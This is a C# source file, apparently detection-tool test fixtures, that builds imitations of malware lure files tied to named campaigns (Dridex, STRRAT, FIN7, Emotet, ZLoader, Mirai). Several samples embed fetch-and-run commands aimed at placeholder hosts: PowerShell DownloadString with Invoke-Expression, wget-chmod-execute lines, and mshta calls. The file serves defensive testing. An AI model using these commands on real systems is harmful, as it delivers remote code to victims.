using System.Text;

namespace Lurewatch.Samples.Documents;

/// <summary>Programs, packages and small files of the desktop, none of which holds code that runs.</summary>
internal static class ProgramDocuments
{
    public static IEnumerable<DocumentSample> All() => [AddInInZip(), Archive(), AppPackage(), Installer(), RemoteDesktop(), Library(), DesktopEntry(), SelfExtractor(), SignedWithScript(), Linux()];

    private static DocumentSample AddInInZip()
    {
        const string Url = "http://addin.example/DOWN/Shipment.exe";
        var library = new PeWriter { IsLibrary = true }.Import(("KERNEL32.dll", ["CreateProcessA", "Sleep"]), ("urlmon.dll", ["URLDownloadToFileA"])).Export("addin.xll", "xlAutoOpen", "xlAutoClose");
        library.Put(Url);
        library.Put("C:\\Users\\Public\\shipment.exe");
        return new("quote-2022-01.zip", "From the end of 2021, Dridex, Agent Tesla and FormBook: an Excel add-in in a ZIP that fetches a program.", ZipWriter.Write([("quote.xll", library.ToBytes())]), Url);
    }

    private static DocumentSample Archive()
    {
        string[] urls = ["http://jar.example/lib/jna-5.5.0.jar", "http://str.example/strigoi/server/?hwid=1"];
        return new("invoice.jar", "2021 to 2023, STRRAT: a Java archive whose main class fetches what it lacks.", PackageWriter.Jar("carLambo.Main", PackageWriter.JavaClass("carLambo/Main", ["java/lang/Runtime", "java/net/URLConnection"], [.. urls, "schtasks"])), urls);
    }

    private static DocumentSample AppPackage()
    {
        const string Url = "https://psf.example/check.php?name=setup";
        return new("Zoom-x64.msix", "2023, FIN7, EugenLoader: an app package whose support framework starts a PowerShell script before the program.", PackageWriter.Msix("Zoom", "CN=Somebody Ltd, C=GB", "VFS\\ProgramFilesX64\\Zoom.exe",
            ("config.json", "{\"applications\":[{\"id\":\"App\",\"executable\":\"VFS\\\\ProgramFilesX64\\\\Zoom.exe\",\"startScript\":{\"scriptPath\":\"update.ps1\",\"showWindow\":false}}]}"u8.ToArray()),
            ("update.ps1", Encoding.UTF8.GetBytes($"$r = New-Object System.Net.WebClient\r\n$t = $r.DownloadString('{Url}')\r\nInvoke-Expression $t\r\n"))), Url);
    }

    private static DocumentSample Installer()
    {
        string[] urls = ["https://adobe.example/report.appinstaller", "https://adobe.example/report.appxbundle"];
        return new("report.appinstaller", "December 2021, Emotet: an App Installer file that poses as a component of a PDF reader.", PackageWriter.AppInstaller(urls[0], urls[1], "AdobePDFComponent"), urls);
    }

    private static DocumentSample RemoteDesktop() => new("Zero Trust Security Environment Compliance Check.rdp", "The form of the remote desktop files by which drives were handed over: all drives, clipboard, a program shown as a check.", Encoding.Unicode.GetPreamble()
        .Concat(Encoding.Unicode.GetBytes("full address:s:eu-north-1.cloud.example\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectsmartcards:i:1\r\nredirectprinters:i:1\r\nremoteapplicationmode:i:1\r\n"
            + "remoteapplicationprogram:s:||Check\r\nremoteapplicationname:s:Compliance Check\r\nprompt for credentials:i:0\r\n")).ToArray());

    private static DocumentSample Library()
    {
        const string Url = "http://dav.example/webdav/";
        return new("Documents.library-ms", "2023, loaders over WebDAV: a library that shows a foreign folder in Explorer.", Encoding.UTF8.GetBytes(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><name>@windows.storage.dll,-34582</name><version>6</version><isLibraryPinned>true</isLibraryPinned>"
            + $"<iconReference>imageres.dll,-1003</iconReference><searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><simpleLocation><url>{Url}</url></simpleLocation>"
            + "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"), Url);
    }

    private static DocumentSample DesktopEntry()
    {
        const string Url = "http://share.example/doc/update";
        return new("Meeting Agenda.pdf.desktop", "2022 and 2023, Transparent Tribe: a Linux desktop entry that poses as a document.", Encoding.UTF8.GetBytes(
            $"[Desktop Entry]\nType=Application\nName=Meeting Agenda.pdf\nIcon=application-pdf\nTerminal=false\nExec=sh -c \"wget {Url} -O /tmp/u; chmod +x /tmp/u; /tmp/u\"\n"), Url);
    }

    private static DocumentSample SelfExtractor()
    {
        const string Url = "http://sfx.example/stage.hta";
        byte[] archive = [(byte)'7', (byte)'z', 0xbc, 0xaf, 0x27, 0x1c, 0, 4, .. new byte[24]];
        return new("setup.exe", "2019 to 2023: a 7-Zip self-extractor whose configuration starts a system program with an address.", new PeWriter
        {
            Appended = [.. ";!@Install@!UTF-8!\r\nGUIMode=\"2\"\r\n"u8, .. Encoding.UTF8.GetBytes($"RunProgram=\"mshta {Url}\"\r\n"), .. ";!@InstallEnd@!"u8, .. archive],
        }.Import(("KERNEL32.dll", ["CreateFileW"])).ToBytes(), Url);
    }

    private static DocumentSample SignedWithScript()
    {
        const string Url = "http://sig.example/go.php";
        // The head of a PKCS #7 message that names nobody; what is behind it is the point.
        return new("appContast.dll", "January 2022, ZLoader: script appended to the frame of a valid signature (CVE-2013-3900).", new PeWriter
        {
            IsLibrary = true,
            Signature = [0x30, 0x0b, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02, .. Encoding.UTF8.GetBytes($"\r\n<script language=\"VBScript\">\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"mshta {Url}\"\r\n</script>\r\n")],
        }.ToBytes(), Url);
    }

    private static DocumentSample Linux()
    {
        const string Url = "http://bins.example/mips.sh";
        return new("mips", "2019 to 2023, Mirai's children: a program for small devices with the address of its script.", UnixProgramWriter.Elf(null, [], $"cd /tmp; wget {Url}; sh mips.sh", is64: false, bigEndian: true, machine: 8), Url);
    }
}
